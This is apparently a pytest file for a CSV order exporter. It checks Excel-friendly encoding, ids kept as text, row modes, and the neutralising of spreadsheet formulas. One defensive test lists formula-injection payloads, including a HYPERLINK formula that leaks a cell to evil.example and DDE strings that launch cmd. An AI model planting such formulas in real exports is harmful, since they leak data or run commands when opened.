"""CSV export: Excel-friendly encoding, formula neutralisation, text ids, row modes."""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import pytest
from tendero_exporters.columns import columns_for


async def stream_of(orders: list[dict[str, Any]]) -> AsyncIterator[dict[str, Any]]:
    for order in orders:
        yield order


async def export(
    exporter: Any, orders: list[dict[str, Any]], rows: str = "orders"
) -> tuple[bytes, int]:
    out = io.BytesIO()
    count = await exporter.write(stream_of(orders), rows, out)
    return out.getvalue(), count


def parse(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_describes_itself(exporters: dict[str, Any]) -> None:
    csv_exporter = exporters["csv"]
    assert (csv_exporter.name, csv_exporter.extension) == ("csv", "csv")
    assert csv_exporter.media_type == "text/csv; charset=utf-8"


async def test_starts_with_a_utf8_bom_and_accents_survive(
    exporters: dict[str, Any], make_order: Any
) -> None:
    data, count = await export(exporters["csv"], [make_order()])
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(codecs.BOM_UTF8) == 1
    assert count == 1
    (row,) = parse(data)
    assert row["customer_name"] == "José Ñúñez Peña"
    assert row["shipping_neighborhood"] == "Crédito Constructor"
    assert row["items"] == "2 × Playera azul algodón (PLY-AZ-M); 1 × Gorra bordada (GOR-01)"
    assert b"\r\n" in data  # RFC 4180 line ends, what Excel expects


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Ver pedido")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
async def test_formulas_in_customer_text_are_neutralised(
    exporters: dict[str, Any], hostile: str, make_order: Any
) -> None:
    order = make_order(customer_name=hostile, customer_email=hostile)
    order["items"][0]["name"] = hostile
    order["shipping_address"]["references"] = hostile
    for rows in ("orders", "items"):
        data, _ = await export(exporters["csv"], [order], rows)
        first = parse(data)[0]
        assert first["customer_name"] == "'" + hostile
        assert first["customer_email"] == "'" + hostile
        assert first["shipping_references"] == "'" + hostile
        if rows == "items":
            assert first["item_name"] == "'" + hostile


async def test_ordinary_text_is_untouched(exporters: dict[str, Any], make_order: Any) -> None:
    data, _ = await export(exporters["csv"], [make_order(customer_name="Ana-María O'Neil")])
    assert parse(data)[0]["customer_name"] == "Ana-María O'Neil"


async def test_ids_and_phones_stay_text(exporters: dict[str, Any], make_order: Any) -> None:
    order = make_order(customer_phone="5215512345678", customer_platform_id="0012345678901234")
    order["shipping_address"]["postal_code"] = "03940"
    data, _ = await export(exporters["csv"], [order])
    row = parse(data)[0]
    assert row["customer_phone"] == "5215512345678"
    assert row["customer_platform_id"] == "0012345678901234"  # leading zeros kept
    assert row["shipping_postal_code"] == "03940"
    # A phone written with "+" starts like a formula: it gets the apostrophe too,
    # which also makes Excel keep it as text.
    data, _ = await export(exporters["csv"], [make_order(customer_phone="+52 1 55 1234 5678")])
    assert parse(data)[0]["customer_phone"] == "'+52 1 55 1234 5678"


async def test_money_and_numbers_are_plain(exporters: dict[str, Any], make_order: Any) -> None:
    data, _ = await export(exporters["csv"], [make_order()])
    row = parse(data)[0]
    assert (row["number"], row["subtotal"], row["total"], row["currency"]) == (
        "1001",
        "1249.50",
        "1348.50",
        "MXN",
    )
    assert row["created_at"] == "2026-03-14T09:26:53-06:00"
    assert row["item_count"] == "3"
    assert row["ready_at"] == "" and row["pickup_location"] == ""


async def test_order_rows_versus_item_rows(
    exporters: dict[str, Any], make_order: Any, pickup_order: Any
) -> None:
    orders = [make_order(), pickup_order(), make_order(number=1003, items=[])]
    data, count = await export(exporters["csv"], orders, "orders")
    rows = parse(data)
    assert count == len(rows) == 3
    assert list(rows[0]) == [c.header for c in columns_for("orders")]
    assert [r["number"] for r in rows] == ["1001", "1002", "1003"]
    assert rows[1]["pickup_location"] == "Tienda Coyoacán"
    assert rows[1]["shipping_street"] == ""

    data, count = await export(exporters["csv"], orders, "items")
    rows = parse(data)
    assert count == len(rows) == 5  # 2 + 2 items, and one row for the order without items
    assert "items" not in rows[0] and "item_sku" in rows[0]
    assert [(r["number"], r["item_sku"]) for r in rows] == [
        ("1001", "PLY-AZ-M"),
        ("1001", "GOR-01"),
        ("1002", "PLY-AZ-M"),
        ("1002", "GOR-01"),
        ("1003", ""),
    ]
    assert rows[0]["item_unit_price"] == "249.50" and rows[0]["item_quantity"] == "2"
    assert rows[1]["customer_name"] == "José Ñúñez Peña"  # order columns repeated


async def test_empty_export_has_the_header_only(exporters: dict[str, Any]) -> None:
    data, count = await export(exporters["csv"], [])
    assert count == 0
    assert data.decode("utf-8-sig").startswith("number,created_at,")
    assert parse(data) == []


async def test_unknown_rows_mode_is_rejected(
    exporters: dict[str, Any], make_order: Any, aiter: Any
) -> None:
    for exporter in exporters.values():
        with pytest.raises(ValueError, match="rows must be one of orders, items"):
            await exporter.write(aiter([make_order()]), "lines", io.BytesIO())
